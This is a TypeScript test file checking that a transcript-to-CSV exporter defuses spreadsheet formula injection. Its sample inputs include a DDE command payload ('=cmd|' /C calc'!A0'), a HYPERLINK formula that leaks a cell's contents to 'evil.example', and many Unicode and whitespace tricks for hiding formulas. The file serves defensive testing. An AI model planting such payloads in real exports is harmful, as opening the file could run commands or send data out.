import { describe, expect, test } from "@jest/globals";
import { harmless, transcriptCsv } from "../../src/views/transcript-csv.ts";
import { hostile } from "./incidents.ts";
import { line, logged, night } from "./transcripts.ts";

/** As spreadsheets read: a quote counts at the beginning of a cell only. */
function readCells(csv: string, separator: string): string[][] {
  const rows: string[][] = [[]];
  for (let at = csv.startsWith("\ufeff") ? 1 : 0; at < csv.length; ) {
    let cell = "";
    if (csv[at] === '"') {
      for (at += 1; at < csv.length && (csv[at] !== '"' || csv[at + 1] === '"'); at++) {
        if (csv[at] === '"') at += 1;
        cell += csv[at];
      }
      at += 1;
    }
    for (; at < csv.length && csv[at] !== separator && !/[\r\n]/.test(csv[at]!); at++) cell += csv[at];
    rows.at(-1)!.push(cell);
    if (csv[at] === separator) at += 1;
    else if (at < csv.length) {
      at += csv.startsWith("\r\n", at) ? 2 : 1;
      if (at < csv.length) rows.push([]);
    }
  }
  return rows;
}

const invisible = String.raw`[\s\p{Cc}\p{Cf}"\u201c\u201d\u3164]*`;
const isFormula = (cell: string): boolean =>
  new RegExp(`^${invisible}[=+\\-@\\uff1d\\uff0b\\uff0d\\uff20]`, "u").test(cell);

const formulas = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1)",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?"&A1,"click")',
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "  =1+1",
  "\u00a0=1+1",
  "\u200b=1+1",
  "\ufeff=1+1",
  "\u202e=1+1",
  "\u0000=1+1",
  '"=1+1',
  '""=1+1',
  "'\"=1+1",
  ' " = 1+1',
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  "a\n=1+1",
  "a\r\n-1",
  "a\u2028@x",
  "a;=1+1",
  'a";=1+1',
  'a";"=1+1',
  "a\t=1+1",
  'x","=1+1',
  'x"\n"=1+1',
  "a;;  +1",
  "\t",
  "\r",
  "\n",
];

describe("a transcript as CSV", () => {
  const [header, ...rows] = readCells(transcriptCsv(night), ",");
  const column = (name: string): string[] => rows.map((cells) => cells[header!.indexOf(name)]!);

  test("has a row for each line, with all that is known of it", () => {
    expect(rows).toHaveLength(night.length);
    expect(rows.every((cells) => cells.length === header!.length)).toBe(true);
    expect(column("line")).toEqual(night.map(({ number }) => String(number)));
    expect(column("time")).toEqual(night.map(({ at }) => at));
    expect(column("hash")).toEqual(night.map(({ hash }) => hash));
    expect(column("text").slice(1, 4)).toEqual(night.slice(1, 4).map(({ text }) => text));
    expect(column("kind")[7]).toBe("said, erased");
    expect(column("reply to")[3]).toBe("102");
    expect(column("mentions")[4]).toBe("Adele Vance");
    expect(column("attachments")[8]).toBe("p99.png");
    expect(column("file kept as").slice(9, 11)).toEqual(["INC-42/107-1.png", "It has 52 MB; 25 MB is the most."]);
    expect(column("source")[12]).toBe("graph");
    expect(column("erased lines")[16]).toBe("8");
  });

  test("begins with the mark by which Excel knows UTF-8, and ends rows as RFC 4180 does", () => {
    const csv = transcriptCsv(logged([line("1", 0, { text: 'a "b", c\nd' })]));
    expect(csv.startsWith('\ufeff"line","time"')).toBe(true);
    expect(csv.endsWith('"\r\n')).toBe(true);
    expect(csv).toContain('"a ""b"", c\nd"');
    expect(transcriptCsv([])).toMatch(/^\ufeff"line".*"hash"\r\n$/);
  });

  test.each(formulas.map((text): [string, string] => [JSON.stringify(text), text]))("%s is text", (_name, text) => {
    expect(isFormula(harmless(text))).toBe(false);
    expect(harmless(text).replace(/'/g, "")).toBe(text.replace(/'/g, ""));
  });

  test.each([
    ["commas", ","],
    ["semicolons", ";"],
    ["tabs", "\t"],
  ])("has no formula for a program that splits at %s", (_name, separator) => {
    const texts = [...formulas, ...hostile];
    const all = texts.map((text, index) =>
      line(text, index, {
        text,
        from: { id: text, name: text },
        replyTo: text,
        mentions: [
          { id: text, name: "x" },
          { id: text, name: text },
        ],
        attachments: [{ name: text, contentType: text, url: text }],
        file: { name: text, contentType: text, url: text, why: text },
      }),
    );
    const cells = readCells(transcriptCsv(logged(all)), separator).flat();
    expect(cells.filter(isFormula)).toEqual([]);
    if (separator === ",") expect(cells).toHaveLength((texts.length + 1) * header!.length);
  });

  test("is left alone where it is harmless", () => {
    for (const text of ["", "a = b", "1 + 1", "mail@example.com", "a - b", "x; y", "it's", "#5", "😀 -", "3-4"])
      expect(harmless(text)).toBe(text);
  });

  test("is made in a time that grows with its length only", () => {
    const started = performance.now();
    for (const text of ["\n", " ", '"', "'", ";", "\u200b"]) harmless(text.repeat(200_000));
    expect(performance.now() - started).toBeLessThan(2_000);
  });
});
